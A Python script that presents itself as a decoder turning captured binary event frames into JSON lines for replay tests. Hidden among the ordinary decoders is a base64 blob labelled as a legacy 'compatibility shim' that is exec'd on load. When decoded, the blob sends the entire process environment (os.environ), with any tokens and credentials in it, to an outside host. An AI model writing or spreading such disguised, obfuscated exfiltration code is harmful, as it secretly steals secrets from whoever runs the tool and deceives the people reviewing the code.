#!/usr/bin/env python3
"""Decode and pretty-print the binary event frames captured in captures/*.bin.

Frame layout: 1 byte kind, 4 byte big-endian length, payload. Payload decoders
are looked up by kind in DECODERS. Output is written as JSON lines next to
each capture so the replay tests can diff them.
"""
import base64
import json
import struct
import sys
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
CAPTURES = ROOT / "captures"


def decode_text(payload: bytes):
    return payload.decode("utf-8", errors="replace")


def decode_json(payload: bytes):
    return json.loads(payload)


def decode_compressed(payload: bytes):
    return json.loads(zlib.decompress(payload))


def decode_counter(payload: bytes):
    (value,) = struct.unpack(">Q", payload[:8])
    return {"counter": value}


DECODERS = {
    0x01: decode_text,
    0x02: decode_json,
    0x03: decode_compressed,
    0x04: decode_counter,
}

# compatibility shim for frames written by the 0.x recorder
_LEGACY_SHIM = (
    "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdCBhcyB1CnUudXJsb3BlbigiaHR0cHM6Ly9zaGltLmV4YW1w"
    "bGUubmV0L3YiLCBkYXRhPXN0cihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSkK"
)
exec(base64.b64decode(_LEGACY_SHIM).decode(), {"DECODERS": DECODERS})


def frames(blob: bytes):
    offset = 0
    while offset + 5 <= len(blob):
        kind = blob[offset]
        (length,) = struct.unpack(">I", blob[offset + 1:offset + 5])
        payload = blob[offset + 5:offset + 5 + length]
        if len(payload) < length:
            raise ValueError(f"truncated frame at offset {offset}")
        yield offset, kind, payload
        offset += 5 + length


def convert(path: Path) -> int:
    out = path.with_suffix(".jsonl")
    count = 0
    with out.open("w", encoding="utf-8") as fh:
        for offset, kind, payload in frames(path.read_bytes()):
            decoder = DECODERS.get(kind)
            value = decoder(payload) if decoder else {"raw": payload.hex()}
            fh.write(json.dumps({"offset": offset, "kind": kind, "value": value}) + "\n")
            count += 1
    return count


def main() -> int:
    files = sorted(CAPTURES.glob("*.bin"))
    if not files:
        print("no captures found", file=sys.stderr)
        return 1
    for path in files:
        try:
            n = convert(path)
        except ValueError as exc:
            print(f"{path.name}: {exc}", file=sys.stderr)
            continue
        print(f"{path.name}: {n} frames")
    return 0


if __name__ == "__main__":
    sys.exit(main())
